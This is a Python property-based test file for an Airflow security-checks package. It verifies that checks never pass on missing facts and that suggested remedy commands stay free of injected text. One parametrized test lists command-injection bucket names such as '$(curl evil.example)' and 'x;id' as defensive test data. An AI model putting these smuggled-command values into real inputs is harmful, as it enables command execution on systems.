"""What holds for every check, whatever the facts."""

from __future__ import annotations

from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from airflow_mlsecops.checks import all_checks
from airflow_mlsecops.core.aws import AwsFacts, Credentials
from airflow_mlsecops.core.check import Check, Demand
from airflow_mlsecops.core.database_grants import (
    DatabaseGrants,
    Privilege,
    Publication,
    Relation,
    RelationKind,
    Role,
)
from airflow_mlsecops.core.environment import Environment
from airflow_mlsecops.core.facts import (
    AirflowFacts,
    ConnectionFacts,
    DatabaseFacts,
    Facts,
    FileFacts,
    NotObserved,
    RuntimeFacts,
)
from airflow_mlsecops.core.finding import Status
from airflow_mlsecops.core.job import JobFacts

CHECKS = tuple(check for check in all_checks().values() if not check.on_demand)
UNSEEN = NotObserved(why="the curtain was drawn")
# Few words, so that facts and policy meet often.
WORDS = st.sampled_from(["prod", "dev", "train-1", "airflow", "LocalExecutor", "db:5432/crm", "/data/x.db", ""])
PATTERNS = st.lists(st.sampled_from(["prod", "train-*", "airflow", "LocalExecutor", "db:5432/*", "**"]), max_size=2)


def maybe(seen: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    return st.one_of(seen, st.just(UNSEEN))


COUNT = st.integers(0, 2)
FEW = st.lists(WORDS, max_size=2).map(tuple)
TABLE = Relation(id="TABLE ml.t", kind=RelationKind.TABLE, schema_name="SCHEMA ml", owner="prod")
MAY = st.builds(
    Privilege, on=st.sampled_from(["TABLE ml.t", "SCHEMA ml", "DATABASE crm"]), grantor=st.just("prod"), grantee=WORDS,
    name=st.sampled_from(["SELECT", "USAGE", "CONNECT"]),
)  # fmt: skip
GRANTS = st.builds(
    DatabaseGrants, version=st.just(180_000), database=st.just("DATABASE crm"), table=st.just("TABLE ml.t"),
    roles=st.lists(st.builds(Role, name=WORDS, login=st.booleans(), superuser=st.booleans()), max_size=2).map(tuple),
    relations=st.just((TABLE,)), privileges=st.lists(MAY, max_size=4).map(tuple), defaults=maybe(st.just(())),
    publications=maybe(st.builds(Publication, name=WORDS).map(lambda one: (one,))),
)  # fmt: skip
RUNTIME = st.builds(
    RuntimeFacts, host=maybe(WORDS), user=maybe(WORDS), uid=maybe(COUNT), executor=maybe(WORDS), queue=maybe(WORDS),
    system=maybe(st.sampled_from(["Linux", "Darwin", "WSL"])), dag_test=maybe(st.booleans()),
    hints=maybe(st.lists(st.sampled_from(["DISPLAY", "SSH_TTY"]), max_size=1).map(tuple)), namespace=maybe(WORDS),
    powers=maybe(st.lists(st.sampled_from(["CAP_CHOWN", "CAP_SYS_ADMIN"]), max_size=1).map(tuple)),
)  # fmt: skip
FILES = st.builds(
    FileFacts, files=COUNT, world_readable=COUNT, world_writable=COUNT, group_readable=COUNT, foreign_owner=COUNT
)
DATABASE = st.builds(
    DatabaseFacts, dialect=st.just("postgres"), place=maybe(WORDS), user=maybe(WORDS), local=st.booleans(),
    tls=maybe(st.booleans()), superuser=maybe(st.booleans()), tls_verified=maybe(st.booleans()), cluster=maybe(WORDS),
    powers=maybe(FEW), bridges=maybe(FEW), grants=st.one_of(st.none(), maybe(GRANTS)),
)  # fmt: skip
CREDENTIALS = st.builds(Credentials, method=st.sampled_from(["iam-role", "env"]), long_lived=maybe(st.booleans()))
CONNECTION = st.builds(
    ConnectionFacts, id=WORDS, type=st.sampled_from(["sqlite", "postgres"]), host=WORDS, environment=WORDS
)
STORES = st.sampled_from(["local", "database", "s3://ml-prod/logs", "gs://elsewhere"])
AIRFLOW = st.builds(
    AirflowFacts, logs=maybe(STORES), xcom=maybe(STORES), logs_environment=maybe(WORDS), xcom_environment=maybe(WORDS)
)
FACTS = st.builds(
    Facts, airflow=maybe(AIRFLOW), claimed=maybe(WORDS), runtime=maybe(RUNTIME), remote=maybe(st.booleans()), job=maybe(st.one_of(st.none(), st.just(JobFacts(kind="ecs task")))),
    connections=maybe(st.lists(CONNECTION, max_size=2).map(tuple)),
    files=st.one_of(st.none(), maybe(FILES)), database=st.one_of(st.none(), maybe(DATABASE)),
    aws=st.one_of(st.none(), maybe(st.builds(AwsFacts, credentials=maybe(CREDENTIALS)))),
)  # fmt: skip
LISTS = ["hosts", "users", "executors", "queues", "connections", "databases"]
LISTS += ["namespaces", "clusters", "bridges", "readers"]
PROFILES = st.builds(
    Environment, remote=st.booleans(),
    **dict.fromkeys(LISTS, PATTERNS.map(tuple)), stores=st.sampled_from([(), ("s3://ml-prod/**",)]),
)  # fmt: skip
DEMANDS = st.builds(Demand, environment=st.sampled_from(["prod", "dev"]), profile=PROFILES)

# Facts that each check cannot do without; `None` in a place stands for the whole.
NEEDS = {
    "AIRFLOW_LOGS": ["airflow", "airflow.logs"],
    "AIRFLOW_XCOM": ["airflow", "airflow.xcom"],
    "AWS_CREDENTIALS": ["aws", "aws.credentials"],
    "CONNECTION_ENVIRONMENT": ["connections"],
    "DAG_TEST_RUN": ["runtime", "runtime.dag_test"],
    "DATABASE_BRIDGES": ["database", "database.bridges"],
    "DATABASE_CLUSTER": ["database", "database.cluster"],
    "DATABASE_PLACE": ["database", "database.place"],
    "DATABASE_POWERS": ["database", "database.powers"],
    "DATABASE_READERS": ["database", "database.grants"],
    "DATABASE_SUPERUSER": ["database", "database.superuser"],
    "DATABASE_TLS": ["database", "database.tls"],
    "DATABASE_TLS_VERIFIED": ["database", "database.tls_verified"],
    "DATASET_FOREIGN_OWNER": ["files"],
    "DATASET_GROUP_READABLE": ["files"],
    "DATASET_WORLD_READABLE": ["files"],
    "DATASET_WORLD_WRITABLE": ["files"],
    "ENV_MISMATCH": ["claimed"],
    "ENV_NOT_DECLARED": ["remote", "database"],
    "PERSON_AT_KEYBOARD": ["runtime", "runtime.hints", "runtime.system"],
    "RUNTIME_EXECUTOR": ["runtime", "runtime.executor"],
    "RUNTIME_HOST": ["runtime", "runtime.host"],
    "RUNTIME_NAMESPACE": ["runtime", "runtime.namespace"],
    "RUNTIME_POWERS": ["runtime", "runtime.powers"],
    "RUNTIME_QUEUE": ["runtime", "runtime.queue"],
    "RUNTIME_ROOT": ["runtime", "runtime.uid"],
    "RUNTIME_USER": ["runtime", "runtime.user"],
}
PLACES = ["aws", "aws.credentials", "claimed", "connections", "remote", "files", "database", "runtime"]
PLACES += [f"runtime.{name}" for name in RuntimeFacts.model_fields]
PLACES += [f"airflow.{name}" for name in AirflowFacts.model_fields]
PLACES += [f"database.{name}" for name in DatabaseFacts.model_fields if name not in ("dialect", "local")]


def without(facts: Facts, place: str) -> Facts:
    """The same facts, one of them unseen."""
    outer, _, inner = place.partition(".")
    if not inner:
        return facts.model_copy(update={outer: UNSEEN})
    part = getattr(facts, outer)
    if part is None or isinstance(part, NotObserved):
        return facts
    return facts.model_copy(update={outer: part.model_copy(update={inner: UNSEEN})})


def status(check: Check, facts: Facts, demand: Demand) -> Status:
    return check.inspect(facts, demand)[0].status


def test_every_check_tells_what_it_needs() -> None:
    assert NEEDS.keys() == {check.id for check in CHECKS}


@settings(max_examples=150, deadline=None)
@given(facts=FACTS, demand=DEMANDS)
def test_no_check_passes_without_a_fact_it_needs(facts: Facts, demand: Demand) -> None:
    for check in CHECKS:
        for place in NEEDS[check.id]:
            blind = without(facts, place)
            # A part that is `None` is of another kind: there is nothing to see in it.
            if blind is not facts:
                assert status(check, blind, demand) is not Status.PASS, (check.id, place)


@settings(max_examples=150, deadline=None)
@given(facts=FACTS, demand=DEMANDS, place=st.sampled_from(PLACES))
def test_seeing_less_never_makes_an_answer_better(facts: Facts, demand: Demand, place: str) -> None:
    blind = without(facts, place)
    for check in CHECKS:
        if status(check, facts, demand) in (Status.FAIL, Status.UNKNOWN):
            assert status(check, blind, demand) in (Status.FAIL, Status.UNKNOWN), (check.id, place)


@settings(max_examples=100, deadline=None)
@given(facts=FACTS, demand=DEMANDS)
def test_stored_facts_are_judged_alike(facts: Facts, demand: Demand) -> None:
    again = Facts.model_validate_json(facts.model_dump_json())
    assert again == facts
    for check in CHECKS:
        assert check.inspect(again, demand) == check.inspect(facts, demand)


@pytest.mark.parametrize("check", all_checks().values(), ids=lambda check: check.id)
def test_a_check_explains_itself(check: Check) -> None:
    assert check.question.endswith("?")
    assert check.standards
    assert check.why
    assert check.remedy
    assert check.why[0].islower()  # it stands after "because" and in tables


@pytest.mark.parametrize("name", ["$(curl evil.example)", "x;id", "`id`", "a'b", 'a"b', "a|b", "a>b", "a\nb", "a\\b"])
def test_a_command_to_paste_runs_nothing_that_somebody_called_his_bucket(name: str) -> None:
    facts = Facts.model_validate({"dataset": f"s3://{name}/x", "aws": {"answers": {}}})
    (finding,) = all_checks()["S3_VERSIONING"].inspect(facts, Demand(environment="prod", profile=Environment()))
    assert finding.subject == name
    assert name not in (finding.remedy or "")
